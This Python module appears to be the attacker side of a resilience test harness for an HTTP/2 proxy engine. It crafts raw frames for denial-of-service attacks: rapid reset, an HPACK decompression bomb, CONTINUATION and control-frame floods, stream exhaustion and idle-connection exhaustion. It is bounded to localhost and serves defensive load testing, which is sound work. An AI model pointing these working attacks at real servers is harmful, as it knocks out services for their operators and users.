"""The attacker side of ``nfmesh perf abuse``: raw HTTP/2 frames over TCP, one case at a time.

Every target faces the same bytes.  Per case an ``Attack`` gives the bytes sent after the
client preface (``first``) and then one chunk per round (``more``) until the connection is cut
or the case ends; ``attack`` reconnects when cut and counts what came back: connections opened
and cut, GOAWAY error codes, RST_STREAM frames and response HEADERS received, bytes sent.

Cases:

* ``rapid_reset``: HEADERS then RST_STREAM(CANCEL), 100 streams a round;
* ``hpack_bomb``: one 4 KB header field put in the decoder's dynamic table, then header
  blocks of 60 one-byte references to it (~240 KB decoded from 60 bytes), 20 a round;
* ``continuation_flood``: one HEADERS without END_HEADERS, then empty CONTINUATIONs forever;
* ``settings_flood``, ``ping_flood``, ``priority_flood``: 200 such frames a round;
* ``stream_exhaustion``: POST ``/hold`` HEADERS without END_STREAM (a request body that never
  comes), 200 streams a round: every stream stays open at any target and at the origin behind
  it (nghttpd answers a request once it has ended; the engine responder never answers /hold);
* ``garbage_preface``: 64 random bytes instead of SETTINGS after the preface;
* ``idle_connections``: ``open_idle`` holds N connections (preface + SETTINGS + ACK, nothing
  else).

Bounded: ``attack`` stops at its ``stop`` event and opens at most ``max_connections``; every
write waits at most ``DRAIN_TIMEOUT_S`` for the target to read.  Traffic goes to 127.0.0.1.
"""

from __future__ import annotations

import asyncio
import os
import struct

import hpack

from dataplane.engine import ErrorCode

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ATTACKS = ("rapid_reset", "hpack_bomb", "continuation_flood", "settings_flood", "ping_flood",
           "priority_flood", "stream_exhaustion", "garbage_preface")
CASES = (*ATTACKS, "idle_connections")
DRAIN_TIMEOUT_S = 1.0
CONNECT_TIMEOUT_S = 2.0

# :method GET, :scheme http, :path / (static table), :authority "abuse" (not indexed): a
# request head that adds nothing to the decoder's dynamic table
_BOMB_HEAD = b"\x82\x86\x84\x01\x05abuse"
_GOAWAY, _RST_STREAM, _HEADERS = 7, 3, 1


def frame(ftype: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) \
        + payload


def settings(flags: int = 0) -> bytes:
    """An empty SETTINGS frame (``flags=1``: its ACK)."""
    return frame(4, flags, 0)


def _headers_block(enc: hpack.Encoder, path: bytes = b"/x", method: bytes = b"GET") -> bytes:
    return enc.encode([(b":method", method), (b":scheme", b"http"), (b":authority", b"abuse"),
                       (b":path", path)])


class Attack:
    """Bytes for one connection of a case: ``first()`` after the preface, then ``more()`` in a
    loop until the connection is cut or the case ends."""

    def __init__(self, case: str) -> None:
        if case not in ATTACKS:
            raise ValueError(f"unknown attack {case!r}")
        self.case = case
        self.enc = hpack.Encoder()
        self.sid = 1

    def next_sid(self) -> int:
        sid = self.sid
        self.sid += 2
        return sid

    def first(self) -> bytes:
        if self.case == "garbage_preface":
            return os.urandom(64)
        out = settings() + settings(flags=1)
        if self.case == "hpack_bomb":  # one 4 KB entry, the newest in the decoder's table
            out += frame(1, 0x5, self.next_sid(), _BOMB_HEAD + b"\x40\x06x-bomb\x7f\xa1\x1e"
                         + b"b" * 4000)
        return out

    def more(self) -> bytes:
        case = self.case
        if case == "rapid_reset":
            out = []
            for _ in range(100):
                sid = self.next_sid()
                out.append(frame(1, 0x4, sid, _headers_block(self.enc)))
                out.append(frame(3, 0, sid, struct.pack(">I", ErrorCode.CANCEL)))
            return b"".join(out)
        if case == "hpack_bomb":  # blocks of indexed references to the 4 KB entry
            refs = b"\xbe" * 60  # index 62, ~240 KB decoded from 60 bytes
            return b"".join(frame(1, 0x5, self.next_sid(), _BOMB_HEAD + refs)
                            for _ in range(20))
        if case == "continuation_flood":  # one header block that never ends
            if self.sid == 1:
                return frame(1, 0x1, self.next_sid(), _headers_block(self.enc))
            return frame(9, 0, 1, b"") * 500
        if case == "settings_flood":
            return settings() * 200
        if case == "ping_flood":
            return frame(6, 0, 0, b"\x00" * 8) * 200
        if case == "priority_flood":
            return b"".join(frame(2, 0, 2 * i + 1, b"\x00\x00\x00\x00\x10") for i in range(200))
        if case == "stream_exhaustion":  # END_HEADERS only: the request body never comes
            return b"".join(frame(1, 0x4, self.next_sid(),
                                  _headers_block(self.enc, b"/hold", b"POST"))
                            for _ in range(200))
        return b""


def new_tally() -> dict:
    """What the attacker got, filled in by ``attack`` (the JSON ``attacker`` object)."""
    return {"connections": 0, "cut": 0, "goaway": {}, "rst_stream": 0, "responses": 0,
            "bytes_sent": 0}


def _error_name(code: int) -> str:
    try:
        return ErrorCode(code).name
    except ValueError:
        return hex(code)


async def _read_frames(reader: asyncio.StreamReader, got: dict) -> None:
    """Read until EOF, counting GOAWAY codes, RST_STREAM and HEADERS frames."""
    buf = b""
    while True:
        data = await reader.read(65536)
        if not data:
            return
        buf += data
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            ftype = buf[3]
            if ftype == _GOAWAY and n >= 8:
                name = _error_name(int.from_bytes(buf[13:17], "big"))
                got["goaway"][name] = got["goaway"].get(name, 0) + 1
            elif ftype == _RST_STREAM:
                got["rst_stream"] += 1
            elif ftype == _HEADERS:
                got["responses"] += 1
            buf = buf[9 + n:]


async def attack(port: int, case: str, stop: asyncio.Event, got: dict,
                 max_connections: int = 20_000) -> None:
    """Run ``case`` against 127.0.0.1:``port`` until ``stop``, reconnecting when cut."""
    while not stop.is_set() and got["connections"] < max_connections:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", port), CONNECT_TIMEOUT_S)
        except (OSError, TimeoutError):
            await asyncio.sleep(0.01)
            continue
        got["connections"] += 1
        a = Attack(case)
        head = PREFACE + a.first()
        writer.write(head)
        got["bytes_sent"] += len(head)
        reading = asyncio.ensure_future(_read_frames(reader, got))
        try:
            while not stop.is_set() and not reading.done():
                chunk = a.more()
                if not chunk:
                    await asyncio.wait([reading], timeout=0.05)
                    continue
                writer.write(chunk)
                got["bytes_sent"] += len(chunk)
                try:
                    await asyncio.wait_for(writer.drain(), DRAIN_TIMEOUT_S)
                except TimeoutError:  # the target stopped reading: wait for it, bounded
                    await asyncio.wait([reading], timeout=0.05)
                await asyncio.sleep(0)
        except (ConnectionError, OSError):
            pass
        if not reading.done():
            await asyncio.wait([reading], timeout=0.01)
        if reading.done():
            got["cut"] += 1
        reading.cancel()
        writer.close()


async def open_idle(port: int, n: int, got: dict) -> list[asyncio.StreamWriter]:
    """Open ``n`` connections to 127.0.0.1:``port`` that send the preface and SETTINGS and then
    nothing; returns their writers (close them).  Stops early (noting why in ``got["error"]``)
    when a connection cannot be opened, e.g. out of descriptors."""
    held: list[asyncio.StreamWriter] = []
    for _ in range(n):
        try:
            _, w = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port),
                                          CONNECT_TIMEOUT_S)
        except (OSError, TimeoutError) as exc:
            got["error"] = f"{len(held)} idle connections opened: {exc!r}"
            break
        w.write(PREFACE + settings() + settings(flags=1))
        held.append(w)
    got["connections"] = len(held)
    return held
